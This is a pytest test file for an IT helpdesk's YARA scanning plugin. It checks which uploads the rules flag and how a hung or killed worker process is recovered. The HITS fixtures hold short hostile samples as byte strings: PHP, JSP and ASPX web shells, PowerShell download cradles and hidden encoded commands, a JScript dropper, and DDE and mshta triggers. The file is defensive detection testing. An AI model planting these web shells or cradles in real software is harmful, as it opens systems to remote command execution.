"""The yara engine: its rules, and a worker that may hang, crash or be killed."""

import asyncio
import os
import signal
import sys
from collections.abc import AsyncIterator, Callable, Coroutine
from pathlib import Path
from typing import Any

import pytest

from itdesk.errors import Unavailable
from itdesk.hookspecs import ScanEngine, Verdict
from itdesk.model import ScanReason
from itdesk_plugins.yara import Engine, Plugin
from tests.support import samples

MARKER = samples.eicar()
MIB = 1 << 20
Put = Callable[[bytes], Path]


@pytest.fixture
async def engine() -> AsyncIterator[Engine]:
    engine = Engine(Plugin.Settings())
    yield engine
    await engine.close()


@pytest.fixture
def put(tmp_path: Path) -> Put:
    def write(content: bytes) -> Path:
        path = tmp_path / "upload"
        path.write_bytes(content)
        return path

    return write


def ask(engine: ScanEngine, path: Path, *, timeout: float = 20) -> Coroutine[Any, Any, Verdict]:
    return engine.scan(path, size=path.stat().st_size, timeout=timeout)


def worker_of(engine: Engine) -> int:
    assert engine._worker is not None
    return int(engine._worker.pid)


HITS = {
    "marker": MARKER,
    "marker inside": b"x" * 5000 + MARKER + b"x",
    "zip": samples.nested(1),
    "nested 3": samples.nested(3),
    "tar.gz": samples.tarball(("a.com", MARKER), compression="gz"),
    "docx": samples.document(MARKER.decode()),
    "macro": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribut\0e VB_Name AutoOpen() WScript.Shell",
    "dde": samples.archive(
        ("word/document.xml", b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k x"')
    ),
    "rtf": rb"{\rtf1{\object\objupdate{\*\objdata 01050000 4571756174696F6E2e33}}}",
    "lnk": b"\x4c\0\0\0\x01\x14\x02\0" + "mshta http://a.example".encode("utf-16-le"),
    "cradle": b"powershell -nop -w hidden IEX (New-Object Net.WebClient)" + b".DownloadString('h')",
    "encoded": b"powershell.exe -WindowStyle hidden -enc " + b"QUJD" * 40,
    "dropper": b"new ActiveXObject('MSXML2.XMLHTTP');new ActiveXObject('ADODB.Stream');"
    b"s.SaveToFile(p);new ActiveXObject('WScript.Shell').Run(p)",
    "php": b"<?php @eval($_POST['x']);?>",
    "jsp": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
}
PASSES = {
    "text": b"The printer on floor 3 is out of toner.",
    "docx": samples.document(),
    "png": samples.png(),
    "pdf": samples.plain_pdf(),
    "install script": b"iex ((New-Object Net.WebClient)"
    + b".DownloadString('https://x/install.ps1'))",
    "encoded without hiding": b"powershell -enc " + b"QUJD" * 40,
    "logon script": b'Set s = CreateObject("WScript.Shell")\ns.Run "net use z: \\\\srv\\share"',
    "php": b"<?php echo htmlspecialchars($_POST['x']); system('uptime'); ?>",
    "rtf": rb"{\rtf1 Hello}",
    "macro document that starts nothing": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribut AutoOpen",
}


@pytest.mark.parametrize("name", HITS)
async def test_rules_hit(engine: Engine, put: Put, name: str) -> None:
    verdict = await ask(engine, put(HITS[name]))
    assert verdict.clean is False and verdict.signature
    assert verdict.engine.startswith("yara ") and len(verdict.engine) == 17


@pytest.mark.parametrize("name", PASSES)
async def test_rules_leave_ordinary_attachments_alone(engine: Engine, put: Put, name: str) -> None:
    verdict = await ask(engine, put(PASSES[name]))
    assert verdict.clean, verdict


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (samples.encrypted_zip(MARKER), "encrypted"),
        (samples.nested(4), "limits"),
        (samples.inflating(20 * MIB), "limits"),
        (samples.archive(("a", MARKER))[:60], "unreadable"),
        (b"", "unreadable"),
    ],
    ids=["encrypted", "deep", "bomb", "cut", "empty"],
)
async def test_what_was_not_seen_whole_is_not_clean(
    engine: Engine, put: Put, content: bytes, reason: str
) -> None:
    verdict = await ask(engine, put(content))
    assert (verdict.clean, verdict.reason, verdict.retry) == (None, ScanReason(reason), False)


async def test_archives_that_it_cannot_unpack_are_the_scanner_s_to_refuse(
    engine: Engine, put: Put
) -> None:
    assert (await ask(engine, put(samples.encrypted_7z()))).clean
    assert engine.unpacks is False


async def test_probe_passes_with_the_shipped_rules(engine: Engine) -> None:
    assert await engine.probe() == []
    assert engine.health.ok


async def test_probe_names_rules_without_the_marker(tmp_path: Path) -> None:
    (tmp_path / "other.yar").write_text('rule other { strings: $a = "xyzzy" condition: $a }')
    engine = Engine(Plugin.Settings(rules=[tmp_path]))
    [problem] = await engine.probe()
    assert "EICAR" in problem and not engine.health.ok
    await engine.close()


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("rule a {\n condition:\n  $x\n}", "bad.yar:3: unknown pattern `.x`"),
        ('include "/etc/passwd"', "bad.yar:1: include statements not allowed"),
        (None, "holds no \\*.yar file"),
    ],
)
async def test_rules_that_do_not_compile_are_named_by_file_and_line(
    tmp_path: Path, put: Put, source: str | None, message: str
) -> None:
    if source:
        (tmp_path / "bad.yar").write_text(source)
    engine = Engine(Plugin.Settings(rules=[tmp_path]))
    with pytest.raises(Unavailable, match=message):
        await engine.probe()
    with pytest.raises(Unavailable, match=message):
        await ask(engine, put(b"x"))
    assert not engine.health.ok and "yara rules" in engine.health.reason


async def test_rules_are_part_of_the_engine_s_name(tmp_path: Path, put: Put) -> None:
    names = set()
    for word in ("one", "two"):
        (tmp_path / "a.yar").write_text(f'rule a {{ strings: $a = "{word}" condition: $a }}')
        engine = Engine(Plugin.Settings(rules=[tmp_path / "a.yar"]))
        names.add((await ask(engine, put(b"x"))).engine)
        await engine.close()
    assert len(names) == 2


async def test_hung_worker_costs_one_deadline_and_is_replaced(engine: Engine, put: Put) -> None:
    path = put(b"x")
    assert (await ask(engine, path)).clean
    hung = worker_of(engine)
    os.kill(hung, signal.SIGSTOP)
    started = asyncio.get_running_loop().time()
    verdict = await ask(engine, path, timeout=0.3)
    assert asyncio.get_running_loop().time() - started < 1.3
    assert (verdict.clean, verdict.reason, verdict.retry) == (None, ScanReason.TIMEOUT, True)
    with pytest.raises(ProcessLookupError):
        os.kill(hung, 0)
    assert (await ask(engine, path)).clean
    assert worker_of(engine) != hung


async def test_killed_worker_costs_one_verdict_and_is_replaced(engine: Engine, put: Put) -> None:
    path = put(b"x")
    assert (await ask(engine, path)).clean
    os.kill(worker_of(engine), signal.SIGKILL)
    verdict = await ask(engine, path)
    if verdict.clean is None:  # the kill was noticed before the question: then no verdict is lost
        assert (verdict.reason, verdict.retry) == (ScanReason.ENGINE_DOWN, True)
    assert (await ask(engine, path)).clean


async def test_worker_killed_in_the_middle_of_a_scan_is_replaced(engine: Engine, put: Put) -> None:
    path = put(b"x")
    assert (await ask(engine, path)).clean
    pid = worker_of(engine)
    os.kill(pid, signal.SIGSTOP)
    asyncio.get_running_loop().call_later(0.2, os.kill, pid, signal.SIGKILL)
    verdict = await ask(engine, path)
    assert (verdict.clean, verdict.reason, verdict.retry) == (None, ScanReason.ENGINE_DOWN, True)
    assert (await ask(engine, path)).clean


async def test_abandoned_answer_never_reaches_the_next_file(
    engine: Engine, put: Put, tmp_path: Path
) -> None:
    bad = tmp_path / "bad"
    bad.write_bytes(MARKER)
    good = put(b"harmless")
    assert (await ask(engine, good)).clean
    for _ in range(5):
        os.kill(worker_of(engine), signal.SIGSTOP)
        pid = worker_of(engine)
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.1):
                await ask(engine, good)
        with pytest.raises(ProcessLookupError):
            os.kill(pid, signal.SIGCONT)
        assert (await ask(engine, bad)).clean is False


async def test_waiting_for_ones_turn_costs_no_worker(engine: Engine, put: Put) -> None:
    path = put(b"x")
    assert (await ask(engine, path)).clean
    pid = worker_of(engine)
    async with engine._turn:
        verdict = await ask(engine, path, timeout=0.1)
    assert verdict.reason is ScanReason.TIMEOUT and verdict.retry
    assert (await ask(engine, path)).clean and worker_of(engine) == pid


async def test_many_scans_share_one_worker(engine: Engine, put: Put, tmp_path: Path) -> None:
    bad = tmp_path / "bad"
    bad.write_bytes(MARKER)
    good = put(b"x")
    async with asyncio.TaskGroup() as tasks:
        asked = [tasks.create_task(ask(engine, path)) for path in (good, bad) * 20]
    assert [task.result().clean for task in asked] == [True, False] * 20


async def test_worker_has_none_of_the_daemon_s_secrets(
    engine: Engine, put: Put, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JWT_SECRET", "do-not-tell")
    assert (await ask(engine, put(b"x"))).clean
    environment = await asyncio.to_thread(Path(f"/proc/{worker_of(engine)}/environ").read_bytes)
    assert b"PATH=" in environment and b"do-not-tell" not in environment


async def test_lifespan_ends_the_worker(put: Put) -> None:
    plugin = Plugin(Plugin.Settings())
    engine = plugin.itdesk_scan_engine()
    assert isinstance(engine, Engine)
    async with plugin.itdesk_lifespan():
        assert (await ask(engine, put(b"x"))).clean
        pid = worker_of(engine)
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


async def test_daemon_never_imports_yara(engine: Engine, put: Put) -> None:
    assert (await ask(engine, put(b"x"))).clean
    assert "yara_x" not in sys.modules


async def test_file_that_is_gone_is_tried_again(engine: Engine, tmp_path: Path) -> None:
    verdict = await engine.scan(tmp_path / "gone", size=1, timeout=5)
    assert (verdict.clean, verdict.retry) == (None, True)
